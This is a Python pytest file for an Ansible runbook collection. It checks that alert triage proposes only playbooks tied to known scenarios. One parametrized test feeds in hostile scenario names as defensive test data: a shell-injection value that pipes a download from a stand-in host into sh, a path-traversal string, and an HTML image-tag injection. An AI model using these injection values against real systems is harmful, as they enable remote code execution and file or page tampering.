"""What signs propose together."""

from __future__ import annotations

from pathlib import Path

import pytest
from ansible_collections.pafar.runbook.plugins.module_utils._triage.prometheus_signs import (
    prometheus_signs,
)
from ansible_collections.pafar.runbook.plugins.module_utils._triage.sign import (
    SCENARIOS,
    scenarios_of,
)

from .surveys import alert, connection_limit_dicts, series

PLAYBOOKS = Path(__file__).parents[5] / "playbooks"


# They work no scenario: the first look, the way back, the rehearsal, the quiet day.
NO_SCENARIO = {"triage", "undo", "game_day", "preflight"}


def test_what_may_be_proposed_is_every_playbook_of_a_scenario():
    assert set(SCENARIOS) == {path.stem for path in PLAYBOOKS.glob("*.yml")} - NO_SCENARIO


@pytest.mark.parametrize("name", ["x; curl evil|sh #", "../../tmp/x", "disk_space.yml", "triage", "`<img src=x>`"])
def test_nothing_else_is_proposed(name):
    beyond = series("failing", 1, "", severity={"P1": 1}, scenario=name)
    signs = prometheus_signs({"alerts": [alert("P0", scenario=name)], "series": [beyond]})
    assert [sign.severity for sign in signs] == ["P0", "P1"]
    assert scenarios_of(signs) == []
    assert "ansible-playbook" not in connection_limit_dicts(signs)
    assert "No playbook mends what is severest above" in connection_limit_dicts(signs)
